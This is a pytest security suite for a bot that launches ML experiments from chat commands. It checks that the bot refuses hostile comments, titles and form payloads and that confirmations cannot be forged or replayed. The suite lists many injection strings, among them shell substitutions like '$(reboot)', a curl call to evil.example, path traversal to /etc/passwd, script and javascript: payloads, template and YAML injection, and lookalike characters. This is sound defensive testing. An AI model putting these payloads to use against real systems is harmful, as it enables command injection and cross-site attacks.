"""Hostile comments, names and payloads: all of them end in nothing worse than a polite refusal."""

import re
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from bot import events
from bot.errors import UserError
from bot.events import CommentWritten, Event, FormSent, IdeaLabelled
from bot.ports import Outage
from bot.sections import Role
from tests.bot.scene import Scene

RTL, ZERO, JOINER, BOM = "\u202e", "\u200b", "\u200d", "\ufeff"
MARKER = "<!-- labhand:report:1 -->"
BODIES = [
    # A shell
    "/launch $(reboot)",
    "/launch seeds=`id`",
    "/launch seeds=5;reboot",
    "/launch seeds=5 && curl evil.example",
    "/launch seeds=$(curl evil.example)",
    "/launch lr=$(id)",
    "/launch lr=0.1;reboot",
    "/launch 'lr=0.1|sh'",
    '/launch lr="0.1 > /etc/passwd"',
    "/launch --help",
    "/launch -rf /",
    "/launch commit=$(git rev-parse HEAD)",
    "/launch commit=../../../etc/passwd",
    "/launch queue=../../secrets",
    "/baseline seeds=1e3",
    "/launch seeds=5\x00",
    "/launch seeds=5\x1b[2J",
    # Markdown and HTML
    "/launch <script>alert(1)</script>",
    "/launch @acme/everybody",
    "/launch seeds=@octocat",
    "/launch [click](javascript:alert(1))",
    "/launch ![x](https://evil.example/pixel.png)",
    "/launch `` @octocat ``",
    "/launch ```",
    "/launch seeds=<img/src=x>",
    "/launch <details><summary>",
    "/launch |a|b|",
    "/launch fixes #1",
    "/launch #1",
    f"/launch {MARKER}",
    f"/launch seeds={MARKER}",
    "/launch <!--",
    "/launch seeds=</code>",
    "/help <b>@octocat</b>",
    "/help @octocat",
    "/lock what=<img>",
    "/unlock what=@octocat",
    # YAML, Jinja, format strings, regular expressions, JSON, paths
    "/launch seeds={{ config }}",
    "/launch {% include '/etc/passwd' %}",
    "/launch seeds={0.__class__}",
    "/launch seeds=%s%s%n",
    "/launch lr=!!python/object:os.system",
    "/launch lr='[1, {a: b}'",
    "/launch seeds=(a+)+$",
    "/launch seeds=.*",
    "/launch seeds=[0-9]",
    '/launch {"seeds": 5}',
    "/launch seeds[]=5",
    "/launch __class__=1",
    "/launch __proto__.x=1",
    "/launch a.b=1 a.b=2",
    "/launch seeds=" + "9" * 2000,
    "/launch " + "a" * 60_000,
    "/launch " + "(" * 2000,
    "/launch '" + "\\" * 2001,
    "/launch " + "[" * 2000,
    # Letters that look like others, or that cannot be seen
    f"/launch seeds=5{ZERO}",
    f"/launch seeds={RTL}5",
    "/launch seeds=５",
    "/launch seeds=²",
    "/launch ѕeeds=5",
    f"/launch lr=0.1{JOINER}",
    f"/{ZERO}launch",
    f"{ZERO}/launch",
    f"/launch{ZERO}",
    "／launch",
    "/lаunch",
    "/LAUNCH",
    f"{BOM}{ZERO}/launch",
    # Somebody else's words
    "> /launch",
    ">> /launch",
    "    /launch",
    "```\n/launch\n```",
    "~~~\n/launch\n~~~",
    "`/launch`",
    "<details>\n\n/launch\n\n</details>",
    "<!--\n/launch\n-->",
    "I will write\n/launch",
    "On Monday ada wrote:\n> /launch",
    "/launch/merge",
    "//launch",
    "/ launch",
    "/lunch-all-the-things",
    "/deploy production",
]
"""Comments by somebody who may act; nothing of them may be carried out."""


@pytest.fixture
def scene(tmp_path: Path) -> Scene:
    """A repository whose first baseline is released."""
    scene = Scene(tmp_path)
    scene.baseline()
    return scene


@pytest.fixture
def pull(scene: Scene) -> int:
    """An experiment's PR."""
    return scene.experiment("Larger learning rate", "lr=0.02")


def standing(scene: Scene) -> tuple[object, ...]:
    """Everything that a command may change."""
    forge, tracker = scene.forge, scene.tracker
    return (
        dict(forge.book), list(forge.log), dict(forge.branches), dict(forge.pulls),
        dict(forge.issues), dict(forge.releases), set(forge.closed), list(tracker.queue),
        dict(tracker.runs), dict(tracker.notes),
    )  # fmt: skip


def refused(scene: Scene, act: Callable[[], object]) -> list[str]:
    """Let something happen that must change nothing; return what the bot said to it."""
    before, said = standing(scene), len(scene.forge.comments)
    act()
    assert standing(scene) == before
    answers = scene.forge.comments[said:]
    assert len(answers) <= 1
    for answer in answers:
        check(answer.body)
        assert re.fullmatch(r"reply:-?\d+|thanks|label:\d+", answer.key)
    return [answer.body for answer in answers]


def check(body: str) -> None:
    """Check that a text of the bot notifies nobody, forges nothing, and hides nothing."""
    assert not re.search(r"@[\w-]", body)
    assert "<!--" not in body
    assert not re.search(r"<(?!/?(?:details|summary)>)[a-z/!]", body, re.IGNORECASE)
    assert not re.search(
        f"[{ZERO}{RTL}{JOINER}\x00\x1b]", body.replace(f"@{ZERO}", "").replace(f"<{ZERO}", "")
    )
    assert len(body) < 2000


@pytest.mark.parametrize("body", BODIES, ids=range(len(BODIES)))
@pytest.mark.parametrize("person", ["grace", "linus"])
def test_a_hostile_comment_changes_nothing(scene: Scene, pull: int, body: str, person: str) -> None:
    said = refused(scene, lambda: scene.writes(person, pull, body))
    assert person == "grace" or not said


FORMS = [body for body in BODIES if body.strip() != "/launch"]
"""In the form there is nobody else to quote, and a space before a command means nothing."""


@pytest.mark.parametrize("body", FORMS, ids=range(len(FORMS)))
def test_a_hostile_form_changes_nothing(scene: Scene, pull: int, body: str) -> None:
    refused(scene, lambda: scene.run(FormSent(pull, "grace", body)))


NAMES = [
    "@octocat @acme/everybody",
    "<script>alert(1)</script>",
    MARKER,
    "### ✅ WIN · val/acc +9",
    "a | b | c",
    "fixes #1, closes #2",
    "{{ 7 * 7 }} {% raw %}",
    "$(reboot) `id`",
    f"{RTL}gnp.exe{ZERO}",
    "[click](javascript:alert(1))",
    "x" * 3000,
    "\n/merge\n",
    "![pixel](https://evil.example/x.png)",
    "</details></summary>",
]


@pytest.mark.parametrize("name", NAMES, ids=range(len(NAMES)))
def test_a_hostile_title_is_only_a_title(scene: Scene, name: str) -> None:
    scene.experiment(name, "lr=0.02")
    said = len(scene.forge.comments)
    scene.writes("ada", max(scene.forge.pulls), "/status")
    (answer,) = scene.forge.comments[said:]
    assert not re.search(r"@\w|<script|<!--|\]\(javascript|^### ✅", answer.body, re.MULTILINE)
    assert all(
        line.count("|") - line.count("\\|") == 5
        for line in answer.body.split("\n")
        if line[:3] == "| #"
    )


@pytest.mark.parametrize("reason", NAMES, ids=range(len(NAMES)))
def test_a_hostile_reason_of_a_lock_is_only_a_reason(scene: Scene, pull: int, reason: str) -> None:
    quoted = reason.replace("\\", "").replace('"', "").replace("\n", " ")[:250]
    scene.writes("grace", pull, f'/lock reason="{quoted}"')
    (answer,) = refused(scene, lambda: scene.writes("ada", pull, "/launch"))
    assert not re.search(r"^###", answer, re.MULTILINE)
    seen = re.sub(r"(`+)(?!`).+?(?<!`)\1(?!`)", "code", answer)
    assert not re.search(r"fixes|javascript|evil|reboot|raw|xxx|WIN", seen)


@pytest.mark.parametrize("idea", NAMES, ids=range(len(NAMES)))
def test_a_hostile_idea_is_only_an_idea(scene: Scene, idea: str) -> None:
    place = scene.forge.add_issue("Ideas")
    quoted = "it: " + idea.replace("\\", "").replace('"', "").replace("\n", " ")[:1900]
    scene.writes("grace", place, f'/experiment "{quoted}" lr=0.02')
    made = scene.forge.issues[max(scene.forge.issues)]
    assert made.number != place
    for text in (made.title, made.body):
        assert not re.search(r"@\w|<script|<!--", text)
        assert not re.search(r"(?i)\b(fixes|closes) #", text)
    assert len(made.title) <= 80
    experiment = scene.forge.read_ledger().at(made.number)
    assert experiment
    assert experiment.idea
    assert experiment.idea.overrides == {"lr": "0.02"}


# Confused deputies


def test_an_edited_comment_is_no_command() -> None:
    payload = {
        "action": "edited",
        "issue": {"number": 3, "pull_request": {}},
        "comment": {"id": 9, "user": {"login": "ada", "type": "User"}, "body": "/merge"},
    }
    assert isinstance(events.parse("issue_comment", payload), str)


@pytest.mark.parametrize("author", ["labhand[bot]", "github-actions[bot]", "ada[bot]"])
def test_a_bot_is_nobody(scene: Scene, pull: int, author: str) -> None:
    scene.forge.roles[author] = "admin"
    event = CommentWritten(pull, 900, author, "/launch", is_pull=True, is_bot=True)
    assert not refused(scene, lambda: scene.run(event))


def test_a_label_by_a_stranger_gets_one_line_of_thanks(scene: Scene) -> None:
    place = scene.idea("Mine", settings="lr=0.02")
    (said,) = refused(scene, lambda: scene.run(IdeaLabelled(place, "linus")))
    assert said.startswith("Thank you")
    assert not refused(scene, lambda: scene.run(IdeaLabelled(place, "linus")))


def fork(scene: Scene) -> tuple[int, str]:
    head = scene.forge.push("theirs", {"conf.yaml": "lr: 0.02\nmodel:\n  width: 64\n"})
    return scene.forge.add_pull("theirs", "From outside", "linus", is_fork=True), head


@pytest.mark.parametrize("commit", ["", " commit={head:.12}", " commit={other}"])
def test_a_forks_code_is_not_launched_unless_its_commit_is_named(scene: Scene, commit: str) -> None:
    place, head = fork(scene)
    other = scene.forge.branches["main"]
    body = f"/launch{commit.format(head=head, other=other)}"
    assert refused(scene, lambda: scene.writes("ada", place, body))


def test_a_forks_commit_is_named_by_whoever_may_decide_alone(scene: Scene) -> None:
    place, head = fork(scene)
    (said,) = refused(scene, lambda: scene.writes("grace", place, f"/launch commit={head}"))
    assert "`maintain`" in said
    assert not refused(scene, lambda: scene.writes("linus", place, f"/launch commit={head}"))


def test_a_forks_branch_that_bears_an_experiments_name_is_not_that_experiment(
    scene: Scene, pull: int
) -> None:
    branch = scene.forge.pull(pull).branch
    theirs = scene.forge.add_pull(branch, "From outside", "linus", is_fork=True)
    refused(scene, lambda: scene.writes("ada", theirs, "/launch"))
    head = scene.forge.pull(theirs).head
    scene.writes("ada", theirs, f"/launch commit={head}")
    ledger = scene.forge.read_ledger()
    ours, adopted = ledger.at(pull), ledger.at(theirs)
    assert ours
    assert adopted
    assert ours.number != adopted.number
    assert not ours.attempts


def asked(scene: Scene, place: int, body: str = "/launch") -> None:
    scene.configure(budget={"ask_above_seeds": 1})
    scene.writes("ada", place, body)


def test_a_yes_of_somebody_else_confirms_nothing(scene: Scene, pull: int) -> None:
    asked(scene, pull)
    (said,) = refused(scene, lambda: scene.writes("grace", pull, "/yes"))
    assert "of ada" in said
    assert not refused(scene, lambda: scene.writes("linus", pull, "/yes"))


def test_a_yes_elsewhere_confirms_nothing(scene: Scene, pull: int) -> None:
    other = scene.experiment("Wider", "model.width=65")
    asked(scene, pull)
    refused(scene, lambda: scene.writes("ada", other, "/yes"))


def test_a_late_yes_confirms_nothing(scene: Scene, pull: int) -> None:
    asked(scene, pull)
    scene.world.clock.sleep(3601)
    refused(scene, lambda: scene.writes("ada", pull, "/yes"))


def test_a_yes_after_a_push_confirms_nothing(scene: Scene, pull: int) -> None:
    asked(scene, pull)
    scene.forge.push(scene.forge.pull(pull).branch, {"model.py": "evil\n"})
    refused(scene, lambda: scene.writes("ada", pull, "/yes"))


def test_a_yes_confirms_nothing_once_the_right_is_gone(scene: Scene, pull: int) -> None:
    asked(scene, pull)
    scene.forge.roles["ada"] = "triage"
    refused(scene, lambda: scene.writes("ada", pull, "/yes"))
    scene.forge.roles["ada"] = "none"
    assert not refused(scene, lambda: scene.writes("ada", pull, "/yes"))


def test_a_yes_never_confirms_twice(scene: Scene, pull: int) -> None:
    asked(scene, pull)
    scene.writes("ada", pull, "/yes")
    refused(scene, lambda: scene.writes("ada", pull, "/yes"))


def test_a_merge_after_a_force_push_is_refused(scene: Scene, pull: int) -> None:
    scene.writes("ada", pull, "/launch")
    scene.rings()
    scene.forge.push(scene.forge.pull(pull).branch, {"model.py": "evil\n"})
    refused(scene, lambda: scene.writes("ada", pull, "/merge"))


def test_a_merge_while_somebody_pushes_is_refused(scene: Scene, pull: int) -> None:
    scene.writes("ada", pull, "/launch")
    scene.rings()
    branch = scene.forge.pull(pull).branch
    scene.forge.overtaken[branch] = "0" * 40
    refused(scene, lambda: scene.writes("ada", pull, "/merge"))


@pytest.mark.parametrize("edit", ["{}", "", "[]", "null", '{"schema": 1, "locks": "no"}'])
def test_a_desk_that_somebody_edited_stops_everything(scene: Scene, pull: int, edit: str) -> None:
    scene.forge.book["ledger/desk.json"] = edit
    (said,) = refused(scene, lambda: scene.writes("ada", pull, "/launch"))
    assert "ledger/desk.json" in said


class Silent(dict[str, Role]):
    """Roles that GitHub does not tell."""

    def get(self, login: str, default: Any = None) -> Any:
        raise Outage(f"no answer about {login}, not even {default}")


def test_a_role_that_cannot_be_asked_is_no_role(scene: Scene, pull: int) -> None:
    scene.forge.roles = Silent()
    with pytest.raises(Outage):
        scene.writes("ada", pull, "/launch")
    assert not scene.tracker.queue


@pytest.mark.parametrize(
    "change",
    [
        {"issue": {"number": "3; reboot"}},
        {"inputs": {"command": "/launch", "number": "3; reboot"}},
        {"inputs": {"command": "/launch", "number": "$(id)"}},
        {"inputs": {"number": "3"}},
        {"inputs": {}},
        {"inputs": None},
    ],
)
def test_a_hostile_form_payload_is_no_command(change: dict[str, Any]) -> None:
    found = events.parse("workflow_dispatch", {"sender": {"login": "ada"}, **change})
    assert not isinstance(found, CommentWritten)
    assert not isinstance(found, FormSent) or found.body == ""


def test_an_empty_form_is_no_command(scene: Scene, pull: int) -> None:
    for body in ("", " ", "/", "//", "launch all", "yes please"):
        refused(scene, lambda body=body: scene.run(FormSent(pull, "ada", body)))


def test_a_form_about_nothing_says_so(scene: Scene) -> None:
    event: Event = FormSent(404, "ada", "/launch")
    with pytest.raises(UserError, match="no issue #404"):
        scene.run(event)


def test_a_command_that_is_replayed_for_somebody_else_is_theirs(scene: Scene, pull: int) -> None:
    event = CommentWritten(pull, 900, "linus", "/launch", is_pull=True, written_at=0.0)
    assert not refused(scene, lambda: scene.run(event))
    assert not refused(scene, lambda: scene.run(replace(event, author="nobody")))


def test_these_are_at_least_sixty() -> None:
    assert len(set(BODIES)) + len(NAMES) >= 60
